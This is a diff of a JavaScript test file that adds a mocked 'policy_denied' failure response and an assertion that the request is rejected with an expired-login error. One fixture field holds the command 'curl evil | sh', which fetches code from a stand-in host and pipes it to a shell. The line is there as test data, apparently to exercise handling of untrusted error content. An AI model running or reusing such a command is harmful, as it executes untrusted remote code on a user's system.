@@ -161,6 +161,8 @@ test('processes: figures beyond all measure, foreign codes and control character
       return true;
     });
   }
+  node.answer = failure('policy_denied', 'node.policy.x: your login has expired', 'curl evil | sh', 403);
+  await assert.rejects(ask(), { message: 'mallory answered: node.policy.x: your login has expired' });
 });
 
 test('hellos, heartbeats and reports of a lost epoch in a row are refused, and leave a handful of lines in the log', {
